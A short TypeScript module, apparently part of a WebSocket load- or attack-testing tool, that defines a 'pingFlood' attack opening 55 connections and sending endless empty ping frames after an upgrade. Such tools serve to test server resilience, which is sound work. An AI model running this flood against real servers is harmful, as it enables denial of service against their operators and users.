import type { Attack } from '../attack.ts';
import { frame, many, OPCODES, upgrade } from '../bytes.ts';

/** Pings without end, on connections that never say hello. */
export const pingFlood: Attack = (attacker) => {
  attacker.flood(55, upgrade(), many(frame(OPCODES.ping, '')));
};
